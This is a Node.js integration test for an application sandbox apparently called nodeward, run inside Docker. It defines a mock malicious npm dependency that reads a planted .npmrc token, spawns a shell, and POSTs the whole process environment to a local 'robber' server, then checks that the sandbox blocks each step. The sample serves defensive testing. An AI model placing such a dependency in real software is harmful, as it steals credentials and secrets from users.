// As a user meets it: the example's Dockerfile, built and run by a real Docker engine without any flag for security.
// A dependency of the application steals what such packages steal. Of the docker lane; may take 300 seconds.
'use strict';

const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { test } = require('node:test');
const { startEngineWithBase } = require('./docker.js');
const { nodeward, outcomes, parseEvents, root, temporary } = require('./support.js');

// The image that the example begins with, and a token that somebody left in it.
const NODE_IMAGE = `FROM base
RUN echo '//registry.example.com/:_authToken=precious' >/home/node/.npmrc && chown node: /home/node/.npmrc
`;

const PACKAGE = `
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');

const tell = (act, error) => console.log(act, error?.code ?? 'ok');
try { tell('npmrc', fs.readFileSync(os.homedir() + '/.npmrc') && null); } catch (error) { tell('npmrc', error); }
tell('shell', spawnSync('/bin/sh', ['-c', 'id']).error);
exports.done = new Promise((resolve) => {
  const post = http.request('http://127.0.0.1:4000', { method: 'POST', agent: false });
  const end = (error) => resolve(tell('post', error));
  post.on('error', end).on('response', (response) => response.resume().on('end', () => end()));
  post.end(JSON.stringify(process.env));
});
`;

// The robber's server, a container of its own. The others share its network, so that nothing leaves the machine.
const ROBBER = `
require('node:http').createServer((request, response) => {
  console.log('loot');
  request.resume().on('end', () => response.end('thanks'));
}).listen(4000, '127.0.0.1', () => console.log('waiting'));
`;

const SERVER = `
const http = require('node:http');
const { done } = require('left-padder');
const server = http.createServer((request, response) => response.end('hello\\n'));
server.listen(process.env.PORT, () => done.then(() => console.log('listening')));
process.on('SIGTERM', () => process.env.STUBBORN || server.close());
`;

const PROFILE = `version = 1
extends = "default"

[network]
connect = []

[environment]
pass = ["PATH", "PORT", "STUBBORN"]

[limits]
memory = "512M"
swap   = "0"
cpu    = 1.5
pids   = 64

[events]
files = "all"
`;

// What stands beside Dockerfile.example.
function application(t) {
  const folder = temporary(t);
  const write = (name, text) => {
    fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    fs.writeFileSync(path.join(folder, name), typeof text === 'string' ? text : JSON.stringify(text));
  };
  const dependencies = { 'left-padder': 'file:left-padder' };
  write('package.json', { name: 'app', version: '1.0.0', dependencies });
  write('package-lock.json', {
    name: 'app', version: '1.0.0', lockfileVersion: 3,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies },
      'left-padder': { version: '1.0.0' },
      'node_modules/left-padder': { resolved: 'left-padder', link: true },
    },
  });
  write('left-padder/package.json', { name: 'left-padder', version: '1.0.0' });
  write('left-padder/index.js', PACKAGE);
  write('server.js', SERVER);
  write('app.toml', PROFILE);
  fs.copyFileSync(nodeward, path.join(folder, 'nodeward'));
  fs.copyFileSync(path.join(root, 'packaging/docker/Dockerfile.example'), path.join(folder, 'Dockerfile.example'));
  return folder;
}

test('the example, as an image', async (t) => {
  const engine = await startEngineWithBase(t);
  const folder = application(t);
  await engine.succeed(['build', '-t', 'node:22-bookworm-slim', '-'], { input: NODE_IMAGE, timeout: 60000 });
  await engine.build('app', 'Dockerfile.example', folder, ['.']);
  // The command that the example tells, but for the published port: the engine has no bridge.
  const told = fs.readFileSync(path.join(folder, 'Dockerfile.example'), 'utf8').match(/docker run (.*) app$/m)[1];
  const flags = told.replace('-p 3000:3000', '--network container:robber').split(' ');
  const inside = (entry, ...words) => engine.docker(['run', '--rm', ...flags, '--entrypoint', entry, 'app', ...words]);
  const stolen = (text) => outcomes(text.split('\n').filter((line) => /^(npmrc|shell|post) /.test(line)).join('\n'));

  // Starts a container of that name; resolves when the application serves.
  async function up(name, ...more) {
    const app = engine.start(['run', '--name', name, ...flags, ...more, 'app']);
    await app.line((line) => line === 'listening', 30000);
    return app;
  }
  // `docker stop`, with the ten seconds that it gives by itself; then what the engine saw, and what nodeward told.
  async function stop(name, app) {
    await engine.succeed(['stop', name], { timeout: 30000 });
    await app.ended;
    const code = Number(await engine.succeed(['inspect', '-f', '{{.State.ExitCode}}', name]));
    return { code, exit: app.seen.events.find((event) => event.event === 'exit') };
  }

  const robber = engine.start(['run', '--name', 'robber', '--entrypoint', 'node', 'app', '-e', ROBBER]);
  await robber.line((line) => line === 'waiting', 30000);
  const loot = () => robber.seen.lines.filter((line) => line === 'loot').length;

  await t.test('control: bare, as the same user, each attack succeeds', async () => {
    const robbed = engine.start(['run', '--name', 'bare', ...flags, '--user', 'node', '--entrypoint', 'node', 'app', 'server.js']);
    await robbed.line((line) => line === 'listening', 30000);
    assert.deepEqual(stolen(robbed.seen.lines.join('\n')), { npmrc: 'ok', shell: 'ok', post: 'ok' });
    assert.equal(loot(), 1);
    await engine.succeed(['rm', '-f', 'bare']);
    await robbed.ended;
  });

  await t.test('with the three lines each is refused, and told', async () => {
    const app = await up('app');
    assert.deepEqual(stolen(app.seen.lines.join('\n')), { npmrc: 'EACCES', shell: 'EACCES', post: 'EACCES' });
    assert.equal(loot(), 1, 'only that of the control');
    assert.equal((await engine.succeed(['exec', 'app', 'cat', '/proc/1/comm'])).trim(), 'nodeward');
    const { code, exit } = await stop('app', app);
    assert.equal(code, 0);
    assert.equal(exit['process.exit.code'], 0);
    const started = app.seen.events.find((event) => event.event === 'start');
    assert.equal(started['in_force.uid'], 1000, 'the user node');
    assert.deepEqual(started['in_force.capabilities.bounding'], []);
    assert.equal(started['in_force.seccomp_filters'], 2, "Docker's and nodeward's");
    assert.ok(started.not_observable.some((what) => /a container's/.test(what)));
    const violations = app.seen.events.filter((event) => event.event === 'violation');
    for (const [code, what] of [['NW211', /\.npmrc$/], ['NW201', /^clone$/], ['NW221', /^127\.0\.0\.1:4000$/]]) {
      assert.ok(violations.some((event) => event.code === code && what.test(event.target ?? event.syscall)), app.seen.stderr);
    }
  });

  await t.test('an application that does not heed SIGTERM is ended by nodeward, before Docker ends both', async () => {
    const { code, exit } = await stop('stubborn', await up('stubborn', '-e', 'STUBBORN=1'));
    assert.equal(code, 137);
    assert.equal(exit.signal, 9, 'nodeward lived to tell');
  });

  await t.test('explain says inside what holds', async () => {
    const { code, stdout, stderr } = await inside('nodeward', 'explain', '-p', '/etc/nodeward/app.toml', '--', 'node', 'server.js');
    assert.equal(code, 0, stdout + stderr);
    for (const measure of ['identity', 'capabilities', 'no_new_privs', 'network', 'landlock', 'seccomp', 'cgroup']) {
      assert.match(stdout, new RegExp(`^${measure} +full `, 'm'));
    }
    assert.match(stdout, /makes the sockets, since it cannot fetch the application's/);
    assert.match(stdout, /run would start/);
  });

  await t.test('limits that the container does not have are refused, with the flags', async () => {
    const { code, stdout, stderr } = await engine.docker(['run', '--rm', '-e', 'PORT=3000', 'app']);
    assert.equal(code, 125);
    assert.equal(stdout, '');
    assert.match(stderr, /docker run -m 512m( --memory-swap 512m)? --cpus 1\.5 --pids-limit 64/);
    assert.deepEqual(parseEvents(stderr), []);
  });
});
